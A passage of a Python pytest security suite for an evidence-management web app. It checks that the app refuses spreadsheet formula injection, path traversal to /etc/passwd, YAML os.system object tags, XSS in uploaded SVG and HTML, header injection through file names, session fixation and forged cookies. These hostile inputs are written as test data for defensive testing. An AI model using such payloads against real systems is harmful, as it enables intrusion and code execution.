        perimeters.set_verdict(session, manager, perimeter, refs["12.4.a"], "partly_covered", formulas[1])
        waivers.set_waiver(session, manager, perimeter, refs["12.4.a"], "12.4.a#1", formulas[2])
        # Imported library wording, which the matrix shows as it is, first in its cell.
        for ref, payload in zip(("12.4.a", "12.4.b", "5.1.a", "5.1.b"), formulas[2:]):
            refs[ref].title = payload
        session.add_all(refs.values())
        contributor2 = session.get(User, ids["contributor2"])
        contributor2.name = formulas[0]
        session.add(contributor2)
        session.commit()
    client = client_for(app, "auditor")
    data = client.get("/perimeters/iaas-t/matrix.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 5 and any("HYPERLINK" in cell for cell in cells)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    workbook = load_workbook(io.BytesIO(client.get("/perimeters/iaas-t/matrix.xlsx").data))
    values = [cell for row in workbook.active.iter_rows() for cell in row]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    assert [c.value for c in values if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in values)


# === No server-side fetch ==========================================================================================


@pytest.fixture
def listener():
    """A local HTTP server that records every request it receives."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(("GET", self.path))
            self.send_response(200)
            self.end_headers()

        do_HEAD = do_POST = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


@SQLITE_ONLY
def test_link_evidence_addresses_are_never_fetched(world, listener):
    app = world
    base, hits = listener
    app.config["LINK_SCHEMES"] = ("https", "http")  # the listener speaks plain HTTP (EVIDENCE_LINK_SCHEMES)
    client = client_for(app, "manager")
    token = csrf_token(client, "/evidence/new")
    response = client.post("/evidence/new", data={
        "csrf_token": token, "title": "Supervision", "kind": "link", "classification": "internal",
        "url": f"{base}/created", "requirements": "12.4.a", "perimeters": str(app.config["WORLD"]["perimeter"])})
    assert response.status_code == 302
    ref = response.headers["Location"].rsplit("/", 1)[-1]
    assert client.post(f"/evidence/{ref}/versions", data={"csrf_token": token, "url": f"{base}/version"}).status_code == 302
    assert client.post(f"/evidence/{ref}/versions", data={"csrf_token": token, "url": "javascript:alert(1)"},
                       follow_redirects=True).status_code == 200  # refused with a message: not http(s)
    for url in (f"/evidence/{ref}", "/evidence/", "/", "/perimeters/iaas-t/dashboard", "/requirements/tiny-1.0/12.4.a",
                "/perimeters/iaas-t/matrix.csv", "/perimeters/iaas-t/matrix.xlsx"):
        assert client.get(url).status_code == 200
    response = client.post("/dossiers/", data={"csrf_token": token, "perimeter": "iaas-t", "language": "fr",
                                               "classification": "Interne"})
    dossier_page = client.get(response.headers["Location"]).get_data(as_text=True)
    download = re.search(r'href="(/dossiers/\d+/download)"', dossier_page)
    assert download and client.get(download.group(1)).data.startswith(b"%PDF")
    assert app.test_cli_runner().invoke(args=["verify"]).exit_code == 0
    time.sleep(0.3)  # anything asynchronous would have arrived by now
    assert hits == []
    with app.app_context(), db.session_scope(app) as session:
        urls = session.exec(select(EvidenceVersion.url).where(EvidenceVersion.url.is_not(None))).all()
        assert f"{base}/version" in urls and "javascript:alert(1)" not in urls


# === Path traversal ===============================================================================================


@SQLITE_ONLY
def test_downloads_refuse_traversal(world, tmp_path):
    app = world
    canary = "canary-" + "7f3a" * 8
    Path(app.instance_path, "canary.txt").write_text(canary)
    (tmp_path / "canary.txt").write_text(canary)
    client = client_for(app, "auditor")
    attempts = [
        "/evidence/..%2F..%2Fcanary.txt/versions/1/download",
        "/evidence/EV-0001%2F..%2F..%2Fcanary.txt/versions/1/download",
        "/evidence/%2e%2e/%2e%2e/canary.txt",
        "/evidence/EV-0001/versions/1/download/..%2F..%2F..%2Fcanary.txt",
        "/evidence/EV-0001/versions/1%2F..%2F2/download",
        "/evidence/EV-0001/versions/-1/download",
        "/evidence/EV-0001/versions/0/download",
        "/evidence/EV-0001/versions/1.0/download",
        "/evidence/ev-0001%00/versions/1/download",
        "/static/../__init__.py", "/static/%2e%2e/__init__.py", "/static/..%2f__init__.py", "/static/..%5c__init__.py",
        "/static/css/..%2F..%2F..%2Fpyproject.toml", "/static/%2Fetc%2Fpasswd", "/static/..%2F..%2Finstance%2Fcanary.txt",
        "/static/fonts/%2e%2e%2f%2e%2e%2f..%2f..%2f" + "..%2f" * 8 + "etc/passwd",
        "/dossiers/..%2F1/download", f"/dossiers/{world.config['WORLD']['dossier']}/download",
    ]
    for url in attempts:
        response = client.get(url, follow_redirects=True)
        body = response.get_data()
        assert response.status_code in (400, 404), (url, response.status_code)
        assert canary.encode() not in body and b"root:x:0:0" not in body and b"def create_app" not in body \
            and b"[project]" not in body, url
    # What may be downloaded still is.
    assert client.get("/evidence/EV-0001/versions/1/download").data == b"one"


@SQLITE_ONLY
def test_bulk_import_refuses_paths_outside_its_root(world, tmp_path):
    app = world
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "ok.txt").write_text("ok")
    secret = tmp_path / "secret.txt"
    secret.write_text("outside the root: must never be stored")
    (root / "escape").symlink_to(secret)
    (root / "sub" / "deeper").symlink_to("../../secret.txt")
    names = ["../secret.txt", str(secret), "sub/../../secret.txt", "..\\secret.txt", "sub\\..\\..\\secret.txt",
             "C:\\secret.txt", "\\\\server\\share\\secret.txt", "escape", "sub/deeper", "%2e%2e/secret.txt",
             "./../secret.txt", "sub/./../../secret.txt"]
    manifest = tmp_path / "manifest.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["file", "title", "kind"])
    for n, name in enumerate(names):
        writer.writerow([name, f"Traversal {n}", "report"])
    manifest.write_text(buffer.getvalue(), encoding="utf-8")
    before = fingerprint(app)
    with app.app_context(), db.session_scope(app) as session:
        actor = session.exec(select(User).where(User.email == "manager@example.org")).one()
        result = importer.run_import(session, storage.get_store(app), actor, manifest, root, origin="cli:test")
    assert [o.action for o in result.outcomes] == [importer.ERROR] * len(names)
    assert fingerprint(app) == before
    stored = [p.read_bytes() for p in Path(app.instance_path, "blobs").rglob("*") if p.is_file()]
    assert b"outside the root: must never be stored" not in stored


@pytest.mark.parametrize("content", [
    "!!python/object/apply:os.system ['touch {marker}']\n",
    "framework: !!python/object/apply:os.system ['touch {marker}']\nsections: []\nitems: []\n",
    "objects:\n  framework: !!python/object/new:os.system ['touch {marker}']\n",
])
@SQLITE_ONLY
def test_catalogue_and_library_files_cannot_run_code(app, tmp_path, content):
    marker = tmp_path / "pwned"
    path = tmp_path / "library.yaml"
    path.write_text(content.format(marker=marker), encoding="utf-8")
    with refused(catalogue.CatalogueError, "not valid YAML"):
        catalogue.parse_catalogue(path)
    with app.app_context(), db.session_scope(app) as session, pytest.raises(catalogue.CatalogueError):
        catalogue.import_library(session, path, "cli:test")
    assert not marker.exists()


# === Uploaded markup ===============================================================================================

MARKUP = [
    ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    ("image.svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("page.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    ("page.htm", b"\xef\xbb\xbf  \n<!DOCTYPE html><body onload=alert(1)>"),
    ("page.HTML", b"<HTML><BODY><SCRIPT>alert(1)</SCRIPT>"),
    ("photo.png", b"<html><script>alert(1)</script></html>"),  # the name lies
    ("poly.gif", b"GIF89a/*<svg onload=alert(1)>*/=1;alert(2)//<script>alert(3)</script>"),
    ("notes.txt", b"<!-- x -->" + b" " * 600 + b"<script>alert(1)</script>"),
    ("a\"\r\nSet-Cookie: pwned=1;\r\nX: .txt", b"header injection through the file name"),
]


@SQLITE_ONLY
def test_uploaded_markup_is_always_an_opaque_attachment(world):
    app = world
    client = client_for(app, "contributor")
    token = csrf_token(client, "/evidence/new")
    for n, (name, content) in enumerate(MARKUP):
        response = client.post("/evidence/new", data={
            "csrf_token": token, "title": f"Markup {n}", "kind": "record", "classification": "internal",
            "perimeters": str(app.config["WORLD"]["perimeter"]),  # linked to no control: its scope is named
            "file": (io.BytesIO(content), name)}, content_type="multipart/form-data")
        assert response.status_code == 302, name
        ref = response.headers["Location"].rsplit("/", 1)[-1]
        for who in (client, client_for(app, "auditor")):
            download = who.get(f"/evidence/{ref}/versions/1/download")
            headers = download.headers
            assert download.status_code == 200 and download.data == content, name
            assert headers["Content-Disposition"].startswith("attachment"), name
            assert "\r" not in headers["Content-Disposition"] and "\n" not in headers["Content-Disposition"]
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Content-Security-Policy"].startswith("sandbox"), name
            assert download.mimetype not in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml",
                                             "application/xml"), (name, download.mimetype)
            assert not any("pwned" in value for _key, value in headers.items() if _key != "Content-Disposition")
            assert "pwned" not in "".join(headers.getlist("Set-Cookie"))


# === Sessions =====================================================================================================


def session_cookie(client) -> str | None:
    cookie = client.get_cookie("evidence_session")
    return cookie.value if cookie else None


@SQLITE_ONLY
def test_a_planted_session_cookie_never_becomes_logged_in(world):
    """Fixation: the attacker gives the victim a session cookie; after the victim logs in, the attacker's copy is
    still anonymous and the victim's cookie is a new one."""
    app = world
    attacker = app.test_client()
    attacker.get("/login")
    planted = session_cookie(attacker)
    assert planted
    victim = app.test_client()
    victim.set_cookie("evidence_session", planted)
    token = csrf_token(victim)
    assert victim.post("/login", data={"email": "manager@example.org", "password": PASSWORD,
                                       "csrf_token": token}).status_code == 302
    assert session_cookie(victim) != planted
    assert victim.get("/").status_code == 200
    response = attacker.get("/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


@SQLITE_ONLY
def test_forged_and_replayed_cookies_are_refused(world):
    app = world
    victim = client_for(app, "manager")
    stolen = session_cookie(victim)

    # The cookie's content, re-signed with a guessed key: refused.
    from flask.sessions import SecureCookieSessionInterface
    from itsdangerous import URLSafeTimedSerializer

    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    content = serializer.loads(stolen)
    forged = URLSafeTimedSerializer("guessed-secret", salt="cookie-session",
                                    serializer=serializer.serializer,
                                    signer_kwargs=serializer.signer_kwargs).dumps(content)
    thief = app.test_client()
    thief.set_cookie("evidence_session", forged)
    assert thief.get("/").status_code == 302
    # An authentic session naming another user, without that user's session token: refused.
    tampered = app.test_client()
    user_id = content["_user_id"].split(":")[0]
    tampered.set_cookie("evidence_session", serializer.dumps({**content, "_user_id": f"{user_id}:00"}))
    assert tampered.get("/").status_code == 302


@SQLITE_ONLY
def test_a_stolen_cookie_replayed_from_another_browser_is_dropped(world):
    """The app asks Flask-Login for "strong" session protection: a session used from another browser (its
    User-Agent and address hash differ from the login's) must be dropped, not merely marked non-fresh."""
    app = world
    stolen = session_cookie(client_for(app, "manager"))
    replay = app.test_client()
    replay.set_cookie("evidence_session", stolen)
    assert replay.get("/", headers={"User-Agent": "Mozilla/5.0 (attacker)"}).status_code == 302


def test_logout_ends_every_session_of_the_user(world):
    app = world
    laptop, phone = client_for(app, "manager"), client_for(app, "manager")
    copy = app.test_client()
    copy.set_cookie("evidence_session", session_cookie(laptop))
    assert copy.get("/").status_code == 200
    assert laptop.post("/logout", data={"csrf_token": csrf_token(laptop, "/")}).status_code == 302
    for client in (laptop, phone, copy):
        response = client.get("/")
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_disabling_a_user_or_resetting_the_password_ends_their_sessions(world):
    app = world
    contributor, manager = client_for(app, "contributor"), client_for(app, "manager")
    admin = client_for(app, "admin")
    token = csrf_token(admin, "/admin/users")
    assert admin.post(f"/admin/users/{world.config['WORLD']['user']}/active",
                      data={"csrf_token": token, "confirmed": "1"}).status_code == 302
    assert contributor.get("/").status_code == 302
    with app.app_context(), db.session_scope(app) as session:
        auth.set_password(session, None, auth.get_user(session, "manager@example.org"), "another long password")
    assert manager.get("/").status_code == 302


# === Login throttling ==============================================================================================


def test_throttling_is_not_bypassed_by_case_spaces_or_forwarded_for(world):
    app = world
    client = app.test_client()
    for n, variant in enumerate(["Manager@Example.org", " manager@example.org", "MANAGER@EXAMPLE.ORG ",
                                 "manager@example.org", "mAnAgEr@example.org"]):
        response = client.post("/login", data={"csrf_token": csrf_token(client), "email": variant, "password": "wrong"},
                               headers={"X-Forwarded-For": f"203.0.113.{n}"})
        assert response.status_code == 200
    response = client.post("/login", data={"csrf_token": csrf_token(client), "email": "manager@example.org",
                                           "password": PASSWORD}, headers={"X-Forwarded-For": "198.51.100.7"})
    assert response.status_code == 429


def test_throttling_per_address_ignores_a_spoofed_forwarded_for(world):
    """Without a trusted proxy (the default), X-Forwarded-For is the client's to write: it must not reset the
    per-address count. Unknown accounts are throttled like known ones (no enumeration)."""
    app = world
    app.config["LOGIN_MAX_FAILURES_PER_ADDRESS"] = 4
    client = app.test_client()
    statuses = []
    for n in range(6):
        response = client.post("/login", data={"csrf_token": csrf_token(client), "email": f"ghost{n}@example.org",
                                               "password": "wrong"}, headers={"X-Forwarded-For": f"203.0.113.{n}"})
        statuses.append(response.status_code)
    assert statuses == [200] * 4 + [429] * 2


# === Headers on special responses ===================================================================================


@SQLITE_ONLY
def test_security_headers_on_errors_downloads_and_https(world):
    """Every other test's responses are checked as they come (SecurityHeadersClient); here the responses that
    only special requests produce: 400, 401, 404, 405, 413, 429, downloads, exports, static files, HTTPS."""
    app = world
    app.config["MAX_CONTENT_LENGTH"] = 1024
    anonymous = app.test_client()
    auditor = client_for(app, "auditor")
    statuses = {
        anonymous.post("/login", data={}).status_code,  # 400
        anonymous.post("/evidence/new", data={"csrf_token": csrf_token(anonymous)}).status_code,  # 401
        auditor.get("/nowhere").status_code,  # 404
        auditor.get("/logout").status_code,  # 405
        auditor.post("/logout", data={"x": "y" * 4096}).status_code,  # 413
        auditor.get("/evidence/EV-0001/versions/1/download").status_code,
        auditor.get("/perimeters/iaas-t/matrix.xlsx").status_code,
        auditor.get("/static/css/app.css").status_code,
        anonymous.get("/healthz").status_code,
        app.test_client().get("/login", base_url="https://evidence.example").status_code,
    }
    app.config["LOGIN_MAX_FAILURES"] = 1
    for _ in range(2):
        statuses.add(anonymous.post("/login", data={"csrf_token": csrf_token(anonymous), "email": "x@example.org",
                                                    "password": "wrong"}).status_code)
    assert {400, 401, 404, 405, 413, 429, 200} <= statuses
    assert SecurityHeadersClient.responses > 0


# === Fuzzing =======================================================================================================

FUZZ = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                         HealthCheck.too_slow])
FUZZ_DB = settings(FUZZ, max_examples=60)

safe_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
long_text = st.text(st.characters(blacklist_categories=("Cs",)), min_size=40, max_size=400)
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-(10 ** 30), 10 ** 30), st.floats(allow_nan=True), safe_text, long_text,
    st.sampled_from(["5", "5.1", "5.1.a", "12.4.a", "exigence", "recommandation", "IaaS", "SaaS", "", " ", "a", "-"]),
    st.dates(),
)
keys = st.one_of(st.sampled_from(["ref", "parent", "title", "title_en", "kind", "summary", "expected_evidence",
                                  "service_types", "built_on", "urn", "ref_id", "name", "description", "parent_urn",
                                  "assessable", "depth", "iso"]), safe_text, st.integers(0, 3))
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
                      max_leaves=12)
refs = st.one_of(st.sampled_from(["5", "5.1", "5.1.a", "5.1.b", "12", "12.4", "12.4.a", "6", "6.1", "6.1.a"]),
                 safe_text, long_text, values)


def maybe(strategy):
    return st.one_of(strategy, values)


catalogue_docs = st.fixed_dictionaries({
    "framework": maybe(st.fixed_dictionaries(
        {"key": maybe(st.sampled_from(["fuzz", "fuzz-1.0", "tiny-1.0", "Fuzz", "a" * 120]) | safe_text),
         "name": maybe(safe_text | long_text)},
        optional={"assessed": maybe(st.booleans()), "links": maybe(st.dictionaries(safe_text, safe_text, max_size=2)),
                  "version": values, "locale": values, "source": values})),
    "sections": maybe(st.lists(maybe(st.fixed_dictionaries(
        {"ref": refs, "title": maybe(safe_text | long_text)},
        optional={"parent": refs, "title_en": maybe(safe_text), "extra": values})), max_size=6)),
    "items": maybe(st.lists(maybe(st.fixed_dictionaries(
        {"ref": refs, "title": maybe(safe_text | long_text)},
        optional={"parent": refs, "kind": maybe(st.sampled_from(["exigence", "recommandation"])),
                  "title_en": values, "summary": values, "expected_evidence": maybe(st.lists(safe_text, max_size=3)),
                  "service_types": maybe(st.lists(st.sampled_from(["IaaS", "SaaS", "XaaS"]), max_size=3)),
                  "built_on": values, "iso": values})), max_size=6)),
})

urns = st.one_of(st.sampled_from(["urn:a", "urn:b", "urn:c", "urn:x:req_node:tiny-1.0:12.4.a",
                                  "urn:x:req_node:tiny-1.0:5.1.a", "urn:x:req_node:fuzz:1"]), safe_text, long_text)
nodes = st.fixed_dictionaries({"urn": maybe(urns)}, optional={
    "ref_id": refs, "name": maybe(safe_text | long_text), "description": maybe(safe_text), "parent_urn": maybe(urns),
    "assessable": maybe(st.booleans()), "depth": maybe(st.integers(-3, 10 ** 25))})
framework_urns = st.one_of(st.sampled_from(["urn:x:framework:fuzz", "urn:x:framework:tiny-1.0",
                                            "urn:x:framework:" + "k" * 80, "urn:x:framework:" + "k" * 120]),
                           safe_text, long_text)
library_docs = st.one_of(
    st.fixed_dictionaries({"objects": maybe(st.fixed_dictionaries({"framework": maybe(st.fixed_dictionaries(
        {"urn": maybe(framework_urns), "requirement_nodes": maybe(st.lists(maybe(nodes), max_size=8))},
        optional={"name": values}))}))}, optional={"name": values, "version": values, "locale": values,
                                                   "provider": values}),
    st.fixed_dictionaries({"objects": st.fixed_dictionaries({"requirement_mapping_set": maybe(st.fixed_dictionaries({
        "source_framework_urn": maybe(framework_urns), "target_framework_urn": maybe(framework_urns),
        "requirement_mappings": maybe(st.lists(maybe(st.fixed_dictionaries({
            "source_requirement_urn": maybe(urns), "target_requirement_urn": maybe(urns)},
            optional={"relationship": maybe(st.sampled_from(["equal", "subset", "superset", "intersect"]))})),
            max_size=6))}))})}),
)


def dump(doc) -> str:
    return yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)


def written(tmp_path: Path, content) -> Path:
    path = tmp_path / "fuzz.yaml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"))
    return path


# Inputs that crashed the parser or the importers (each gets a clean error once fixed); hypothesis finds more.
CATALOGUE_CRASHERS = {
    "parent is a list": "framework: {key: a, name: A}\nsections:\n- {ref: '5', title: T, parent: [1]}\nitems: []\n",
    "item parent is a mapping": "framework: {key: a, name: A}\nsections:\n- {ref: '5', title: T}\n"
                                "items:\n- {ref: 5.a, title: x, parent: {a: 1}}\n",
    "unknown field named by a number": "framework: {key: a, name: A}\nsections:\n- {ref: '5', title: T, 1: x}\nitems: []\n",
    "nesting deeper than the stack": "[" * 5000 + "]" * 5000,
}
LIBRARY_HEAD = "objects:\n  framework:\n    urn: 'urn:x:framework:fz'\n    requirement_nodes:\n"
LIBRARY_CRASHERS = {
    "depth is text": (LIBRARY_HEAD + "    - {urn: a, depth: abc}\n", None),
    "depth beyond 64 bits": (LIBRARY_HEAD + "    - {urn: a, depth: 99999999999999999999999}\n", None),
    "two sections with one ref": (LIBRARY_HEAD + "    - {urn: 'p:x', ref_id: x}\n    - {urn: 'q:x', ref_id: x}\n", None),
    "two items with one ref": (LIBRARY_HEAD + "    - {urn: 'p:x', ref_id: x, assessable: true}\n"
                               "    - {urn: 'q:x', ref_id: x, assessable: true}\n", None),
    "ref longer than the column": (LIBRARY_HEAD + f"    - {{urn: a, ref_id: {'r' * 60}, assessable: true}}\n", None),
    "framework key longer than the audit column": (
        LIBRARY_HEAD.replace("fz", "k" * 70) + "    - {urn: a, assessable: true}\n", None),
    "overlay of a chain deeper than the stack": (
        LIBRARY_HEAD.replace("fz", "chain") + "    - {urn: n0, ref_id: 5.1.a, assessable: true}\n"
        + "".join(f"    - {{urn: n{i}, parent_urn: n{i - 1}, assessable: true}}\n" for i in range(1, 3000)), "tiny-1.0"),
}


def check_parse_catalogue(path: Path) -> None:
    try:
        spec = catalogue.parse_catalogue(path)
    except catalogue.CatalogueError as error:
        assert str(path) in str(error)
        return
    assert isinstance(spec, catalogue.CatalogueSpec) and spec.key and spec.name


@pytest.mark.parametrize("name", list(CATALOGUE_CRASHERS))
def test_catalogue_crashers_get_a_clean_error(tmp_path, name):
    check_parse_catalogue(written(tmp_path, CATALOGUE_CRASHERS[name]))


@FUZZ
@given(content=st.one_of(catalogue_docs.map(dump), st.text(), st.binary(max_size=300)))
@example(content="framework: {key: a, name: A}\nsections: []\nitems: []\n")
def test_fuzz_parse_catalogue(tmp_path, content):
    check_parse_catalogue(written(tmp_path, content))


@pytest.fixture
def fuzz_engine(database_url):
    """A migrated database of each kind with the four-item referential, for the importers' fuzzers."""
    engine = db.make_engine(database_url)
    with Session(engine) as session:
        catalogue.load_catalogues(session, [TINY], "cli:test")
    yield engine
    engine.dispose()


def db_state(engine) -> tuple:
    with Session(engine) as session:
        return tuple(session.execute(select(func.count()).select_from(table)).scalar_one()
                     for table in SQLModel.metadata.sorted_tables) + (
            session.execute(text("SELECT seq, hash FROM audit_head")).all()[0],
            session.exec(select(func.max(Requirement.title))).one())


def check_import(engine, call) -> None:
    """`call(session)` returns a report or raises CatalogueError having written nothing (not even partly)."""
    before = db_state(engine)
    session = Session(engine, expire_on_commit=False)
    try:
        report = call(session)
    except catalogue.CatalogueError:
        session.close()  # what a caller does: no commit
        assert db_state(engine) == before, "an import that failed wrote something"
    else:
        assert report is not None
    finally:
        session.close()


@FUZZ_DB
@given(content=catalogue_docs.map(dump))
@pytest.mark.sqlite_only  # parsers fuzzed, not SQL
def test_fuzz_load_catalogues(fuzz_engine, tmp_path, content):
    path = written(tmp_path, content)
    check_import(fuzz_engine, lambda session: catalogue.load_catalogues(session, [path], "cli:fuzz"))


@pytest.mark.parametrize("name", list(LIBRARY_CRASHERS))
def test_library_crashers_get_a_clean_error(fuzz_engine, tmp_path, name):
    content, overlay = LIBRARY_CRASHERS[name]
    path = written(tmp_path, content)
    check_import(fuzz_engine, lambda session: catalogue.import_library(session, path, "cli:fuzz", overlay=overlay))


def test_library_with_a_node_that_is_its_own_parent_ends(tmp_path):
    """A node naming itself as its parent made the importer loop for ever: run it in a child process with a
    deadline (a thread could not be stopped), on a SQLite database of its own."""
    path = written(tmp_path, LIBRARY_HEAD + "    - {urn: a, assessable: true, parent_urn: a}\n")
    code = f"""
from pathlib import Path
from sqlmodel import Session
from evidence import catalogue
from evidence.data import database as db
engine = db.make_engine("sqlite:///{tmp_path}/own-parent.db")
db.migrate(engine)
with Session(engine) as session:
    try:
        catalogue.import_library(session, Path("{path}"), "cli:test")
        print("imported")
    except catalogue.CatalogueError as error:
        print("refused:", error)
"""
    try:
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=10,
                              cwd=Path(__file__).resolve().parents[1])
    except subprocess.TimeoutExpired:
        pytest.fail("import_library still running after 10 s: a node that is its own parent loops for ever")
    assert done.returncode == 0 and done.stdout.startswith(("imported", "refused:")), done.stderr[-2000:]


@FUZZ_DB
@given(content=library_docs.map(dump), overlay=st.sampled_from([None, None, "tiny-1.0", "nope"]))
@pytest.mark.sqlite_only  # parsers fuzzed, not SQL
def test_fuzz_import_library(fuzz_engine, tmp_path, content, overlay):
    if overlay is None and "parent_urn" in content:
        # A node may name itself as its parent: that loops for ever until fixed (the test above proves it);
        # keep the fuzzer to inputs that end.
        doc = yaml.safe_load(content)
        framework = (doc.get("objects") or {}).get("framework") if isinstance(doc.get("objects"), dict) else None
        nodes_ = framework.get("requirement_nodes") if isinstance(framework, dict) else None
        if isinstance(nodes_, list) and any(isinstance(n, dict) and n.get("parent_urn") == n.get("urn") for n in nodes_):
            return
    path = written(tmp_path, content)
    check_import(fuzz_engine, lambda session: catalogue.import_library(session, path, "cli:fuzz", overlay=overlay))


# --- the bulk-import manifest -----------------------------------------------------------------------------------

manifest_cells = st.one_of(safe_text, st.sampled_from(["", '"', '""', ";", ",", "\n", "\r\n", "\x00", "=1+1", "é"]),
                           st.sampled_from(importer.COLUMNS if hasattr(importer, "COLUMNS") else ("file",)))
manifest_texts = st.builds(
    lambda header, rows, delimiter, bom: ("\ufeff" if bom else "") + "\n".join(
        delimiter.join(line) for line in [header, *rows]),
    st.lists(manifest_cells, min_size=1, max_size=6), st.lists(st.lists(manifest_cells, max_size=7), max_size=5),
    st.sampled_from([",", ";", "\t"]), st.booleans())


def manifest_parser():
    parser = getattr(importer, "parse_csv", None)
    if parser is None:
        pytest.skip("evidence.importer.parse_csv(data: bytes) -> list[ManifestRow] is not written yet")
    return parser


def check_manifest(data: bytes) -> None:
    try:
        rows = manifest_parser()(data)
    except EvidenceError:
        return
    assert all(isinstance(row, importer.ManifestRow) and isinstance(row.values, dict) for row in rows)


@pytest.mark.parametrize("data", [b"a" * 200_000 + b"\nx", b'file\n"' + b"a" * 200_000 + b'"\n'],
                         ids=["header larger than the csv field limit", "value larger than the csv field limit"])
def test_manifest_crashers_get_a_clean_error(data):
    check_manifest(data)


@settings(FUZZ, max_examples=200)
@given(data=st.one_of(st.binary(max_size=400), manifest_texts.map(lambda t: t.encode("utf-8", "surrogatepass"))))
def test_fuzz_manifest_csv(data):
    check_manifest(data)


@settings(FUZZ, max_examples=25)
@given(rows=st.lists(st.lists(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False, allow_infinity=False),
                                        st.dates(), manifest_cells.filter(lambda s: "\x00" not in s)), max_size=6),
                     max_size=5),
       garbage=st.binary(max_size=200))
def test_fuzz_manifest_xlsx(tmp_path, rows, garbage):
    from openpyxl import Workbook

    if getattr(importer, "read_manifest", None) is None:
        pytest.skip("evidence.importer.read_manifest(path) is not written yet")
    workbook = Workbook()
    for row in rows:
        workbook.active.append([c if not isinstance(c, str) else re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c)
                                for c in row])
    good, bad = tmp_path / "fuzz.xlsx", tmp_path / "garbage.xlsx"
    workbook.save(good)
    bad.write_bytes(garbage)
    for path in (good, bad):
        try:
            result = importer.read_manifest(path)
        except EvidenceError:
            continue
        assert all(isinstance(row, importer.ManifestRow) for row in result)
